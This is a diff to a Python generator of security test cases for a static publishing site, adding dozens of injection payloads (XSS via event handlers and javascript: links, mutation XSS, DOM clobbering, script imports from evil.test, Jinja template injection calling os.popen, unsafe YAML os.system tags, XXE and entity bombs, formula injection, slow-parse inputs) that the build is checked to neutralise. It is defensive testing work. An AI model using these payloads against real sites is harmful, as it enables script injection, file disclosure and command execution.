@@ -21,6 +21,11 @@ class Case:
     files: Mapping[str, bytes]
     code: str | None = None
 
+    @property
+    def is_slow(self) -> bool:
+        """Whether it is meant to hold a build for long.  (It does not hold ours; Python-Markdown and Zensical it may.)"""
+        return self.name.startswith("special-slow-")
+
 
 # --- tricks: words that would like to be more -------------------------------------------------------------------------------------
 
@@ -84,10 +89,10 @@ WORDS = {
 
 def _quoted(words: str) -> str:
     """As a YAML value: JSON's quotes are YAML's; what YAML takes for the end of a line is written by its number."""
-    return json.dumps(words)
+    return "".join(json.dumps(c)[1:-1] if ord(c) < 0x10000 else f"\\U{ord(c):08x}" for c in words).join('""')
 
 
-_UNQUOTED = frozenset({"date", "authors", "key_points", "provenance"})
+_UNQUOTED = frozenset({"date", "authors", "key_points", "provenance", "corrections", "statements"})
 
 
 def _article(slug: str, body: str, **header: str) -> dict[str, bytes]:
@@ -181,6 +186,74 @@ WAYS: Mapping[str, Way] = {
     "outlet-text": lambda slug, words: _outlet(slug, words),
     "page": lambda slug, words: {f"pages/{slug}.md": f"# Page {words}\n\n{words}\n".encode()},
 }  # fmt: skip
+
+# --- more tricks, each by a few ways ------------------------------------------------------------------------------------------------
+# What the generator's own Markdown is made of, and what its renderer lets pass as it is; younger elements and attributes of HTML.
+
+MORE_WORDS = {
+    "own-box": "\n<details>\n<summary>x</summary>\n<p><img src=x onerror=window.pwned=1></p>\n</details>\n",
+    "own-box-attributes": '\n<details class="ex-a" id="ex-b" onclick="window.pwned=1" ontoggle="window.pwned=1" open>\n</details>\n',
+    "own-span": '<span class="ex-hidden" data-ex-go="//evil.test" id="ex-title">x</span>',
+    "own-box-open": '\n<details>\n<summary title="</details><script>window.pwned=1</script>">x',
+    "stash": "\n\x02 0\x03\n\x020\x03 \x021\x03",
+    "heading-id": "# x {#__config}\n\n## y {: #ex-title .md-nav onclick=window.pwned=1 }",
+    "heading-link": "## [x](javascript:window.pwned=1) <a id=cookie>y</a>",
+    "contents": "[TOC]\n\n///toc\n\n[[toc]]",
+    "abbreviation": "*[Text]: \"><img src=x onerror=window.pwned=1>\n\nText",
+    "definition": "x\n:   <script>window.pwned=1</script>",
+    "link-angles": "[x](<javascript:window.pwned=1>) [y](<https://example.org/ onclick=window.pwned=1>)",
+    "link-nested": "[![x](javascript:window.pwned=1)](javascript:window.pwned=1) [a [b](https://example.org/)](javascript:window.pwned=1)",
+    "link-title-end": "[x](https://example.org/ 'a\" onclick=\"window.pwned=1\" b=\"')",
+    "link-lines": "[x\ny](java\nscript:window.pwned=1)",
+    "mail": "<mailto:a@example.org?subject=\"onclick=window.pwned=1>",
+    "wiki-link": "[[javascript:window.pwned=1]] [[x|<img src=x onerror=window.pwned=1>]]",
+    "table-end": "| a |\n|---|\n| b | <td onclick=window.pwned=1> |\n</table><script>window.pwned=1</script>",
+    "fence-language": "\n```js\" onclick=\"window.pwned=1\nx\n```\n",
+    "fence-tildes": "\n~~~{.html onclick=window.pwned=1 linenums='1'}\n</code></pre><script>window.pwned=1</script>\n~~~\n",
+    "block-html": '/// html | script[src="//evil.test/a.js"]\n///',
+    "snippet-lines": ";--8<--\n--8<--\n../canary.txt\n--8<--",
+    "snippet-include": "{!../canary.txt!} {{#include ../canary.txt}} {% include-markdown '../canary.txt' %} ![[../canary.txt]] !INCLUDE ../canary.txt",
+    "template-block": "{% raw %}{% endraw %}{% set x = cycler.__init__.__globals__.os.popen('touch owned').read() %}{{ x }}",
+    "template-line": "\n# for x in range(9)\n{%- autoescape false -%}<script>window.pwned=1</script>{%- endautoescape -%}\n",
+    "front-matter": "\n---\ntemplate: ../../../canary.txt\nhide: [x]\n---\n",
+    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src *\"><meta name=referrer content=unsafe-url>",
+    "rules": '<script type=speculationrules>{"prefetch":[{"urls":["//evil.test/"]}]}</script>',
+    "import-map": '<script type=importmap>{"imports":{"./search.js":"//evil.test/a.js"}}</script>',
+    "prerender": "<link rel=prerender href=//evil.test/><link rel=dns-prefetch href=//evil.test><link rel=modulepreload href=//evil.test/a.js>",
+    "shadow": "<div><template shadowrootmode=open><script>window.pwned=1</script></template></div>",
+    "popover": "<button popovertarget=x>y</button><div popover id=x onbeforetoggle=window.pwned=1>x</div>",
+    "media": "<video poster=//evil.test/a.png><source src=//evil.test/a.mp4 onerror=window.pwned=1></video><audio src=//evil.test/a.mp3 autoplay>",
+    "background": "<table background=//evil.test/a.png><body background=//evil.test/b.png onload=window.pwned=1>",
+    "ping": '<a href="https://example.org/" ping="//evil.test/" target=_self download onclick=window.pwned=1>x</a>',
+    "picture": "<picture><source srcset=//evil.test/a.png><img src=x onerror=window.pwned=1></picture><input type=image src=//evil.test/a>",
+    "mutation": "<svg></p><style><a id=\"</style><img src=1 onerror=window.pwned=1>\">",
+    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
+    "mutation-comment": "<!--><img src=x onerror=window.pwned=1>--> <!--!> <img src=x onerror=window.pwned=1> --!>",
+    "mutation-select": "<select><option><iframe></select><img src=x onerror=window.pwned=1>",
+    "clobber-more": "<form id=document><input name=cookie></form><a id=location name=defaultView><img name=currentScript><object id=ex><a id=ex>",
+    "clobber-heading": "## constructor\n\n## __proto__\n\n## location\n\n## document",
+    "full-width": "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e \ufe64img src=x onerror=window.pwned=1\ufe65",
+    "long-s": "<\u017fcript>window.pwned=1</\u017fcript> <\u212abd onclick=window.pwned=1>",
+    "tags-unseen": "x\U000e003cscript\U000e003e \ufff9a\ufffab\ufffb \u00ad\u034f\u115f",
+    "direction": "x \u202e<tpircs/>\u202c \u2066y \u061cz \u200f",
+    "surrogates": "x \\ud800 &#xd800; &#x110000; &#0; &#1; &#x80;",
+    "entities-cut": "&lt;script&gt window.pwned=1 &#60script&#62 &lt&#x3Cimg src=x onerror=window.pwned=1&#x3e &colon; &NewLine;",
+    "math-link": "$\\href{javascript:window.pwned=1}{x}$ \\(\\url{//evil.test}\\) \\[\\unicode{<script>}\\]",
+    "marks": "***\n___\n---\n+ x\n1) y\n= z\n> - > <script>window.pwned=1</script>",
+    "json-end": "\u2028\"}]}</script><script>window.pwned=1</script><script type=\"application/ld+json\">[{\"",
+    "feed-end": "]]></content></entry><script xmlns='http://www.w3.org/1999/xhtml'>window.pwned=1</script><![CDATA[",
+    "formula": "=HYPERLINK(\"https://evil.test\",\"x\") @SUM(1) +cmd|' /C calc'!A0 -2+3",
+    "citation": "{x}\\input{../canary.txt}\\write18{touch owned}\nTY  - JOUR\nER  - \n@article{x,\n}",
+}  # fmt: skip
+MORE_WAYS: Mapping[str, Way] = {
+    **{way: WAYS[way] for way in ("markdown", "inline", "raw-html", "pasted", "saved-escaped", "title", "actor-name", "topic-text")},
+    "corrections": lambda slug, words: _article(slug, "Text.", corrections=f"[{{date: 2025-02-04, what: {_quoted(words)}}}]"),
+    "statement": lambda slug, words: _actor(slug, name=_quoted(f"Person {slug}")) | _plain(
+        slug, f"Person {slug} speaks", f"“We will not go to {' '.join(words.split())} again today,” said Person {slug}."
+    ),
+    "weak-alias": lambda slug, words: _actor(slug, weak_aliases=f"[{_quoted(f'{words} {slug}')}]", metonyms=f"[{_quoted(f'{slug} {words}')}]"),
+}  # fmt: skip
+
 # Where a way or a trick ends otherwise than as text: (way, trick) -> the problem.  "*" is any.
 _DEAD = [
     "link-dead",
@@ -220,6 +293,8 @@ KEPT_OUT: dict[tuple[str, str], str] = {
             "separator",
         ]
     },  # what has no blank in it is taken for an address
+    **{(way, "direction"): "name-hidden" for way in ("title", "actor-name", "weak-alias")},
+    **{(way, trick): "name-hidden" for way in ("actor-name", "weak-alias") for trick in ("stash", "tags-unseen")},
     **{(f"to-{way}", trick): "link-dead" for way in ("link", "image", "reference", "actor") for trick in _DEAD[1:]},
     **{(f"to-{way}", trick): "link-dead" for way in ("raw", "saved") for trick in _DEAD[2:]},
     ("to-url", "*"): "header-value",
@@ -336,6 +411,43 @@ SPECIAL = (
     _special("half-utf8", f"{_HEAD}---\n\nCaf".encode() + "é à ü ö ä".encode() + b" \xff and more.\n", None),
     _special("deep-list", f"{_HEAD}---\n\n" + "".join(f"{'  ' * n}- item{n} words\n" for n in range(60)), None),
     _special("deep-html", _clip("x", body="<div>" * 3000 + "<p>Words in the depth of it all.</p>" + "</div>" * 3000)["articles/x.html"], None, "articles/special-deep.html"),
+    _special("long-name", f"{_HEAD}---\n\nText.\n", "slug-form", f"articles/{'a' * 200}.md"),
+    _special("two-endings", f"{_HEAD}---\n\nText.\n", "slug-form", "articles/special.html.md"),
+    _special("redirect-to-list", f"{_HEAD}redirects: [index]\n---\n\nText.\n", "redirect-taken"),
+    _special("redirect-to-list-of-topics", "---\nname: Topic To List\nredirects: [index]\n---\n", "redirect-taken", "topics/special-to-list.md"),
+    _special("redirect-itself", f"{_HEAD}redirects: [special-redirect-itself]\n---\n\nText.\n", "redirect-taken"),
+    Case(name="special-redirect-ring", code="redirect-taken", files={
+        "articles/special-ring.md": f"{_HEAD}redirects: [special-ring-two]\n---\n\nOne.\n".encode(),
+        "articles/special-ring-two.md": f"{_HEAD}redirects: [special-ring]\n---\n\nTwo.\n".encode()}),
+    _special("redirect-host", f"{_HEAD}redirects: ['//{EVIL}']\n---\n\nText.\n", "header-value"),
+    _special("redirect-long", f"{_HEAD}redirects: [{'a' * 200}]\n---\n\nText.\n", "header-value"),
+    _special("outlet-user", f"---\nname: Outlet User\nurl: https://example.org@{EVIL}/\nrights: full\n---\n", "header-value", "outlets/special-user.md"),
+    _special("outlet-lines", f'---\nname: Outlet Lines\nurl: "https://example.org/\\n//{EVIL}"\nrights: full\n---\n', "header-value", "outlets/special-lines.md"),
+    _special("wikidata", "---\nname: Person Wikidata\nkind: person\nwikidata: 'Q1\" onclick=\"window.pwned=1'\n---\n", "header-value", "actors/special-wikidata.md"),
+    Case(name="special-parent-ring", code="topic-cycle", files={
+        **_topic("special-parent", parent="special-parent-two"), **_topic("special-parent-two", parent="special-parent")}),
+    _special("date-far", '---\ntitle: "A title"\ndate: 99999-01-01\n---\n\nText.\n', "header-value"),
+    _special("weight", "---\nname: Topic Weight\nterms: [{harbour walls: .inf}]\n---\n", "header-value", "topics/special-weight.md"),
+    _special("weight-long", f"---\nname: Topic Weight Long\nterms: [{{harbour gates: {'9' * 5000}}}]\n---\n", "header-value", "topics/special-weight-long.md"),
+    _special("decisions", "same: !!python/object/apply:os.system ['touch owned']\n", "header-tag", "statements.yaml"),
+    _special("addresses", f"articles/<script>window.pwned=1</script>/\n//{EVIL}/\n../../canary.txt\n", "address-form", "addresses.txt"),
+    _special("entity-file", _clip("x", body="<p>Words &xxe; of the text, and some more of them.</p>")["articles/x.html"].replace(
+        b"<!doctype html>", b"<!DOCTYPE html [<!ENTITY xxe SYSTEM '../../canary.txt'>]>"), None, "articles/special-entity.html"),
+    _special("entity-bomb", _clip("x", body="<p>Words &c;&c; of the text, and some more.</p>")["articles/x.html"].replace(
+        b"<!doctype html>", b"<!DOCTYPE html [<!ENTITY a 'aaaaaaaa'>" + b"".join(b"<!ENTITY %c '%s'>" % (98 + n, b"&%c;" % (97 + n) * 9) for n in range(9)) + b"]>"), None, "articles/special-bomb.html"),
+    _special("utf16", f"{_HEAD}---\n\n<script>window.pwned=1</script> Text.\n".encode("utf-16"), None),
+    _special("utf32", f"{_HEAD}---\n\n<script>window.pwned=1</script> Text.\n".encode("utf-32"), None),
+    _special("overlong", f"{_HEAD}---\n\nText ".encode() + b"\xc0\xbcscript\xc0\xbewindow.pwned=1 \xed\xa0\x80 more.\n", None),
+    _special("nul-saved", _clip("x", body="<p>scr\0ipt and more words.</p>")["articles/x.html"], "file-binary", "articles/special-nul.html"),
+    _special("iso-2022", _clip("x", head="<meta charset=iso-2022-jp>", body="<p>\x1b$B%3%1B\x1b(J and more words.</p>")["articles/x.html"], None, "articles/special-iso-2022.html"),
+    *(_special(f"tangled-{name}", f"{_HEAD}---\n\n{words}\n", "text-tangled") for name, words in {
+        "brackets": "[" * 8000, "fences": "~~~ a\n" * 2001, "rows": "|" * 6000, "tags": "<div>" * 6000,
+        "definitions": "".join(f"[a{n}]: http://example.org/{n}\n" for n in range(7000))}.items()),
+    *(_special(f"slow-{name}", f"{_HEAD}---\n\n{words}\n", None) for name, words in {
+        "emphasis": "*a **b " * 1200, "underscores": "_" * 4900, "ticks": "`" * 2000 + "a" + "`" * 1999, "quotations": "> " * 3000 + "x",
+        "links": "[a](" * 1600, "images": "![" * 2400, "entities": "&amp;" * 4900, "backslashes": "\\" * 4900, "speech": "\u201cWe will not go there again,\u201d said " * 3000,
+        "signs": "a\u0301" * 50_000, "word": "a" * 490_000, "hyphens": "a-" * 100_000, "at": "a@" * 50_000, "blanks": "x" + " " * 400_000 + "y"}.items()),
+    _special("slow-forms", "---\nname: Person Slow\nkind: person\naliases: ['(a+)+$', '[', '.*.*.*x', '\\\\']\n---\n", None, "actors/special-slow.md"),
     _special("config-title", '---\ntitle: "__config"\ndate: 2025-02-03\n---\n\n## __config\n\nText.\n\n## __skip\n\n## __skip\n', None),
     _special("meta-lines", f"{_HEAD}---\n\nLondon: text of the first line\ntemplate: home.html\n", None),
 )  # fmt: skip
@@ -347,11 +459,11 @@ def _expected(way: str, trick: str) -> str | None:
 
 def cases() -> Iterator[Case]:
     """All of them; no two share a file."""
-    for table, ways in ((WORDS, WAYS), (ADDRESSES, ADDRESS_WAYS)):
+    for table, ways in ((WORDS, WAYS), (MORE_WORDS, MORE_WAYS), (ADDRESSES, ADDRESS_WAYS)):
         for way, files in ways.items():
             for trick, words in table.items():
-                name = f"{way}-{trick}" if table is WORDS else f"to-{way}-{trick}"
-                key = way if table is WORDS else f"to-{way}"
+                name = f"to-{way}-{trick}" if table is ADDRESSES else f"{way}-{trick}"
+                key = f"to-{way}" if table is ADDRESSES else way
                 yield Case(name=name, files=files(name, words), code=_expected(key, trick))
     yield from SPECIAL
 
@@ -359,7 +471,7 @@ def cases() -> Iterator[Case]:
 def write(folder: Path, chosen: Iterable[Case]) -> Path:
     """A content tree that holds some cases, with a file outside it that no page may show."""
     content = folder / "content"
-    (content / "articles").mkdir(parents=True)
+    (content / "articles").mkdir(parents=True, exist_ok=True)
     (folder / "canary.txt").write_text(f"{CANARY}\n", "utf-8")
     for case in chosen:
         for path, data in case.files.items():
